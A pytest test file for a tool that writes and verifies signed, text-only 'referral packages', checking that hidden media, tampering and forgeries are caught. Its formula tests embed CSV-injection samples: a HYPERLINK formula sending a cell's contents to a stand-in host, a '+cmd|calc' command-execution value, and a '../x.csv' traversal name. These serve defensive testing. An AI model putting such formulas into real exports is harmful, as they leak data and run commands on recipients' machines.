"""The referral package: only text leaves, formulas are neutralised, and the verifier finds every
kind of tampering without ever raising."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import subprocess
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from requirements import tool
from tiaki.engines import signing
from tiaki.formats.package import (
    PackageContentError,
    PackageError,
    find_media_payload,
    verify_package,
    write_package,
)

FILES = {
    "persons.csv": b"person_id,country\nP-1,NZ\n",
    "accounts.csv": b"account_id,person_id,username\nacc-1,P-1,river_otter\n",
    "media.csv": b"media_id,sha256\n",
    "README.md": b"# hello\n",
}
META = {"country": "NZ", "handling": "restricted", "counts": {"persons": 1, "accounts": 1, "media": 0}}


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (10, 200, 30)).save(out, format="PNG")
    return out.getvalue()


def with_accounts(*rows: str) -> dict[str, bytes]:
    body = "".join(row + "\n" for row in rows)
    return {**FILES, "accounts.csv": b"account_id,person_id,username,profile_url\n" + body.encode()}


def meta(**counts: int) -> dict[str, object]:
    return {**META, "counts": {**META["counts"], **counts}}  # type: ignore[dict-item]


def test_written_package_verifies_as_folder_and_zip(tmp_path: Path):
    zip_path, zip_sha, manifest_sha = write_package(tmp_path / "op-NZ", FILES, META)
    assert verify_package(tmp_path / "op-NZ") == []
    assert verify_package(zip_path) == []
    assert verify_package(zip_path, expected_manifest_sha256=manifest_sha) == []
    with zipfile.ZipFile(zip_path) as archive:
        assert sorted(archive.namelist()) == [
            "op-NZ/README.md",
            "op-NZ/SHA256SUMS",
            "op-NZ/accounts.csv",
            "op-NZ/manifest.json",
            "op-NZ/media.csv",
            "op-NZ/persons.csv",
        ]
    assert len(zip_sha) == len(manifest_sha) == 64


def test_writing_twice_gives_identical_bytes(tmp_path: Path):
    first = write_package(tmp_path / "a" / "op-NZ", FILES, META)
    second = write_package(tmp_path / "b" / "op-NZ", FILES, META)
    assert first[1:] == second[1:]


def _tree(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


@pytest.mark.parametrize("stop_at", ["zip", "folder", "swap", "rename"])
def test_a_writer_stopped_part_way_leaves_the_package_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stop_at: str
):
    """Killed or failing while rewriting a package (a disk full, a crash): the zip and the folder
    on disk are each whole, the old package or the new one, never a mix or a file cut short (the
    folder is missing only between the two renames that swap it); the next writer finishes and
    leaves nothing of the stopped one behind."""
    folder = tmp_path / "op-NZ"
    zip_path, zip_sha, _ = write_package(folder, FILES, META)
    before = _tree(tmp_path)
    changed = {**FILES, "README.md": b"# changed\n"}

    def stop(*args: object, **kwargs: object) -> None:
        raise OSError("stopped")

    with monkeypatch.context() as patch:
        if stop_at == "zip":  # while the zip is built
            patch.setattr(zipfile.ZipFile, "writestr", stop)
        elif stop_at == "folder":  # after the first file of the new folder
            real = Path.write_bytes
            calls = iter(range(1000))
            patch.setattr(
                Path, "write_bytes", lambda self, data: real(self, data) if next(calls) < 1 else stop()
            )
        elif stop_at == "swap":  # the old folder set aside, the new one not yet in its place
            rename = Path.rename
            renames = iter(range(1000))
            patch.setattr(Path, "rename", lambda self, to: rename(self, to) if next(renames) < 1 else stop())
        else:  # once the new folder is in place, before the zip is
            patch.setattr("tiaki.formats.package.os.replace", stop)
        with pytest.raises(OSError):
            write_package(folder, changed, META)
    visible = {k: v for k, v in _tree(tmp_path).items() if not k.startswith(".") and "/." not in k}
    if stop_at == "rename":
        assert visible["op-NZ/README.md"] == b"# changed\n"  # the folder is the new package, whole
        assert visible["op-NZ.zip"] == before["op-NZ.zip"] and verify_package(zip_path) == []
    elif stop_at == "swap":
        assert visible == {"op-NZ.zip": before["op-NZ.zip"]}  # no folder until the next writer
    else:
        assert visible == before
    assert hashlib.sha256(zip_path.read_bytes()).hexdigest() == zip_sha
    assert stop_at == "swap" or verify_package(folder) == []
    write_package(folder, changed, META)
    assert set(_tree(tmp_path)) == set(before)  # the stopped writer's staging files are gone
    assert verify_package(folder) == verify_package(zip_path) == []


def test_altered_missing_and_extra_files_are_reported(tmp_path: Path):
    folder = tmp_path / "op-NZ"
    write_package(folder, FILES, META)
    (folder / "persons.csv").write_bytes(b"person_id,country\nP-2,NZ\n")
    (folder / "README.md").unlink()
    (folder / "extra.txt").write_text("x")
    problems = verify_package(folder)
    assert any("persons.csv" in p and "altered" in p for p in problems)
    assert any("README.md" in p and "missing" in p for p in problems)
    assert any("extra.txt" in p and "not listed" in p for p in problems)


# --- only text leaves -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        b"\xff\xd8\xff\xe0\x00\x10JFIF",
        b"\x89PNG\r\n\x1a\n\x00",
        b"GIF89a\x01\x00",
        b"RIFF\x10\x00\x00\x00WEBPVP8 ",
        b"\x00\x00\x00\x18ftypisom\x00",
    ],
)
def test_media_bytes_are_refused_by_the_writer_and_caught_by_the_verifier(tmp_path: Path, payload: bytes):
    with pytest.raises(PackageError, match=r"never carry media|packages carry only text"):
        write_package(tmp_path / "p", {**FILES, "notes.txt": b"a,b\n" + payload}, META)
    folder = tmp_path / "q"
    write_package(folder, FILES, META)
    (folder / "README.md").write_bytes(b"x" + payload)
    assert any("README.md" in p and ("binary" in p or "control" in p) for p in verify_package(folder))


def test_a_whole_picture_file_is_refused(tmp_path: Path):
    with pytest.raises(PackageContentError, match="png file") as caught:
        write_package(tmp_path / "p", {**FILES, "photo.txt": png_bytes()}, META)
    assert caught.value.file == "photo.txt"


@pytest.mark.parametrize(
    "text", ["GIF89a", "ftypisom@example.org", "RIFF1234WEBP", "\\x89PNG", "GIF87a GIF89a ftypmp42"]
)
def test_text_that_only_looks_like_a_signature_never_stops_a_package(tmp_path: Path, text: str):
    files = with_accounts(f"acc-1,P-1,{text},https://example.org/u/{text}")
    write_package(tmp_path / "op-NZ", files, META)
    assert verify_package(tmp_path / "op-NZ") == []


def test_a_data_uri_picture_is_refused_naming_file_row_and_field(tmp_path: Path):
    uri = "data:image/png;base64," + base64.b64encode(png_bytes()).decode()
    files = with_accounts("acc-1,P-1,river,https://example.org/u/river", f'acc-2,P-1,heron,"{uri}"')
    with pytest.raises(PackageContentError) as caught:
        write_package(tmp_path / "op-NZ", files, meta(accounts=2))
    error = caught.value
    assert (error.file, error.row, error.field) == ("accounts.csv", 3, "profile_url")
    assert "image/png" in str(error) and not (tmp_path / "op-NZ").exists()


@pytest.mark.parametrize(
    "encode",
    [
        lambda data: base64.b64encode(data).decode(),
        lambda data: "x" + base64.b64encode(data).decode(),  # misaligned by one character
        lambda data: base64.urlsafe_b64encode(data).decode(),
        lambda data: base64.encodebytes(b"\x00" * 30 + data).decode(),  # wrapped lines, offset payload
        lambda data: data.hex(),
        lambda data: "data:application/octet-stream;base64," + base64.b64encode(data).decode(),
    ],
)
def test_a_media_payload_in_any_common_encoding_is_refused(tmp_path: Path, encode) -> None:  # type: ignore[no-untyped-def]
    value = encode(png_bytes())
    assert find_media_payload(value) is not None
    files = with_accounts(f'acc-1,P-1,"{value}",')
    with pytest.raises(PackageContentError) as caught:
        write_package(tmp_path / "op-NZ", files, META)
    assert (caught.value.file, caught.value.row, caught.value.field) == ("accounts.csv", 2, "username")


def test_a_payload_in_json_names_its_path(tmp_path: Path):
    uri = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
    data = json.dumps({"Media": [{"Comments": "fine"}, {"Comments": uri}]}).encode()
    with pytest.raises(PackageContentError) as caught:
        write_package(tmp_path / "p", {**FILES, "media.vics.json": data}, META)
    assert (caught.value.file, caught.value.field) == ("media.vics.json", "$.Media[1].Comments")


@pytest.mark.parametrize(
    "name", ["photo.jpg", "sub/persons.csv", "../x.csv", ".hidden.csv", "SHA256SUMS.sig"]
)
def test_only_expected_flat_text_files(tmp_path: Path, name: str):
    with pytest.raises(PackageError):
        write_package(tmp_path / "p", {**FILES, name: b"a\n"}, META)


# --- formulas -------------------------------------------------------------------------------------


def test_formulas_are_neutralised_in_every_csv(tmp_path: Path):
    files = with_accounts(
        'acc-1,P-1,"=HYPERLINK(""http://x.example/?""&A1,""click"")",+cmd|calc',
    )
    folder = tmp_path / "op-NZ"
    write_package(folder, files, META)
    text = (folder / "accounts.csv").read_text()
    assert "'=HYPERLINK" in text and ",'+cmd|calc" in text
    assert verify_package(folder) == []


def test_a_formula_written_into_a_package_afterwards_is_reported(tmp_path: Path):
    folder = tmp_path / "op-NZ"
    write_package(folder, FILES, META)
    (folder / "accounts.csv").write_bytes(b"account_id,person_id,username\nacc-1,P-1,@SUM(A1)\n")
    problems = verify_package(folder)
    assert any("row 2, field 'username'" in p and "formula" in p for p in problems)


# --- manifest and members -------------------------------------------------------------------------


def rewrite_zip(zip_path: Path, edit) -> None:  # type: ignore[no-untyped-def]
    with zipfile.ZipFile(zip_path) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    members = edit(members)
    with zipfile.ZipFile(zip_path, "w") as archive:
        for name, data in members:
            archive.writestr(name, data)


def edit_manifest(folder: Path, change) -> None:  # type: ignore[no-untyped-def]
    """Edit the manifest as a consistent forger would: SHA256SUMS recomputed to match."""
    manifest = json.loads((folder / "manifest.json").read_text())
    change(manifest)
    (folder / "manifest.json").write_text(json.dumps(manifest))
    resum(folder)


def resum(folder: Path) -> None:
    names = sorted(p.name for p in folder.iterdir() if p.name not in ("SHA256SUMS", "SHA256SUMS.sig"))
    sums = "".join(f"{hashlib.sha256((folder / n).read_bytes()).hexdigest()}  {n}\n" for n in names)
    (folder / "SHA256SUMS").write_text(sums)


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda m: m.update(country="AU"), "not the package's AU"),
        (lambda m: m.update(country="nz"), "not two capital letters"),
        (lambda m: m["counts"].update(persons=7), "counts.persons is 7"),
        (lambda m: m.pop("handling"), "'handling' is required"),
        (lambda m: m.update(version="1"), "version"),
        (lambda m: m.update(files=[]), "not listed"),
    ],
)
def test_edits_to_the_manifest_itself_are_found(tmp_path: Path, change, expected: str) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "op-NZ"
    write_package(folder, FILES, META)
    edit_manifest(folder, change)
    problems = verify_package(folder)
    assert any(expected in p for p in problems), problems


def test_a_manifest_listing_nothing_with_every_file_removed(tmp_path: Path):
    folder = tmp_path / "op-NZ"
    write_package(folder, FILES, META)
    for name in FILES:
        (folder / name).unlink()
    edit_manifest(folder, lambda m: m.update(files=[]))
    problems = verify_package(folder)
    assert any("README.md: required" in p for p in problems)


def test_a_handling_edit_is_found_against_the_recorded_manifest_digest(tmp_path: Path):
    folder = tmp_path / "op-NZ"
    _, _, manifest_sha = write_package(folder, FILES, META)
    edit_manifest(folder, lambda m: m.update(handling="public"))
    assert verify_package(folder) == []  # consistent: only a record or a signature can tell
    assert verify_package(folder, expected_manifest_sha256=manifest_sha) != []


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_forged_file_in_a_second_folder_or_twice_in_the_zip(tmp_path: Path):
    zip_path, _, _ = write_package(tmp_path / "op-NZ", FILES, META)
    rewrite_zip(zip_path, lambda members: [*members, ("other/persons.csv", b"person_id,country\nP-9,NZ\n")])
    assert any("outside the package folder" in p for p in verify_package(zip_path))
    write_package(tmp_path / "op-NZ", FILES, META)
    rewrite_zip(zip_path, lambda members: [*members, ("op-NZ/persons.csv", b"person_id,country\nP-9,NZ\n")])
    assert any("appears twice" in p for p in verify_package(zip_path))
    write_package(tmp_path / "op-NZ", FILES, META)
    rewrite_zip(zip_path, lambda members: [*members, ("op-NZ/sub/persons.csv", b"x\n")])
    assert any("folder inside the package" in p for p in verify_package(zip_path))


def test_a_folder_or_link_inside_a_package_folder(tmp_path: Path):
    folder = tmp_path / "op-NZ"
    write_package(folder, FILES, META)
    (folder / "sub").mkdir()
    (folder / "link.csv").symlink_to(tmp_path)
    problems = verify_package(folder)
    assert any("sub/: a folder" in p for p in problems)
    assert any("link.csv: a symbolic link" in p for p in problems)


def _unit(tmp_path: Path, unit: str = "unit-1") -> tuple[signing.Signer, str]:
    signing.init_keys(tmp_path / f"keys-{unit}", unit=unit)
    return signing.load_signer(tmp_path / f"keys-{unit}"), signing.public_key_text(tmp_path / f"keys-{unit}")


def test_a_signed_package_verifies_and_a_forgery_or_another_key_does_not(tmp_path: Path):
    signer, public = _unit(tmp_path)
    folder = tmp_path / "op-NZ"
    zip_path, _, _ = write_package(folder, FILES, META, signer=lambda data: signing.sign(data, signer))
    assert verify_package(folder, public_key=public) == []
    assert verify_package(zip_path, public_key=public) == []
    # Rewritten consistently: the manifest edited, then every digest (and SHA256SUMS) recomputed.
    edit_manifest(folder, lambda m: m.update(handling="public"))
    sums = (folder / "SHA256SUMS").read_text()
    assert any("does not match the content" in p for p in verify_package(folder, public_key=public))
    other, _ = _unit(tmp_path, "unit-2")
    (folder / "SHA256SUMS.sig").write_text(signing.sign(sums.encode(), other))
    assert any("signed by another key" in p for p in verify_package(folder, public_key=public))
    (folder / "SHA256SUMS.sig").write_text("-----BEGIN SSH SIGNATURE-----\nU1NIU0lH\n")
    assert any("truncated or corrupt" in p for p in verify_package(folder, public_key=public))
    unsigned = tmp_path / "plain" / "op-NZ"
    write_package(unsigned, FILES, META)
    assert any("not signed" in p for p in verify_package(unsigned, public_key=public))


def test_a_recipient_checks_a_package_with_standard_tools_alone(tmp_path: Path):
    ssh_keygen, sha256sum = tool("ssh-keygen"), tool("sha256sum")
    signer, _ = _unit(tmp_path)
    folder = tmp_path / "op-NZ"
    write_package(folder, FILES, META, signer=lambda data: signing.sign(data, signer))
    allowed = tmp_path / "keys-unit-1" / "allowed_signers"
    with (folder / "SHA256SUMS").open("rb") as sums:
        checked = subprocess.run(
            [ssh_keygen, "-Y", "verify", "-f", str(allowed), "-I", "unit-1", "-n", "tiaki", "-s",
             str(folder / "SHA256SUMS.sig")],
            stdin=sums, capture_output=True, text=True,
        )  # fmt: skip
    assert checked.returncode == 0, checked.stderr
    assert subprocess.run([sha256sum, "-c", "SHA256SUMS"], cwd=folder, capture_output=True).returncode == 0
    (folder / "persons.csv").write_text("person_id,country\nP-x,NZ\n")
    assert subprocess.run([sha256sum, "-c", "SHA256SUMS"], cwd=folder, capture_output=True).returncode != 0


def test_inconsistent_metadata_is_refused_by_the_writer(tmp_path: Path):
    with pytest.raises(PackageError, match=r"counts\.persons is 2"):
        write_package(tmp_path / "p", FILES, meta(persons=2))
    with pytest.raises(PackageError, match="not two capital letters"):
        write_package(tmp_path / "p", FILES, {**META, "country": "NZL"})
    with pytest.raises(PackageError, match="written by the package writer"):
        write_package(tmp_path / "p", FILES, {**META, "files": []})


# --- verify never raises ----------------------------------------------------------------------------


def test_anything_that_is_not_a_package_gives_problems_not_errors(tmp_path: Path):
    junk = tmp_path / "junk.bin"
    junk.write_bytes(b"not a zip")
    assert "neither a package folder nor a zip" in verify_package(junk)[0]
    assert "no such package" in verify_package(tmp_path / "missing")[0]
    (tmp_path / "empty").mkdir()
    assert verify_package(tmp_path / "empty") == [f"{tmp_path / 'empty'}: no manifest.json"]
    zip_path, _, _ = write_package(tmp_path / "op-NZ", FILES, META)
    data = bytearray(zip_path.read_bytes())
    corrupt = tmp_path / "corrupt.zip"
    corrupt.write_bytes(bytes(data[:40]) + b"\x00" * 200 + bytes(data[240:]))
    assert verify_package(corrupt) != []
    (tmp_path / "op-NZ" / "manifest.json").write_bytes(b"{not json")
    assert any("not valid JSON" in p for p in verify_package(tmp_path / "op-NZ"))
    (tmp_path / "op-NZ" / "manifest.json").write_bytes(b"\xff\xfe")
    assert verify_package(tmp_path / "op-NZ") != []
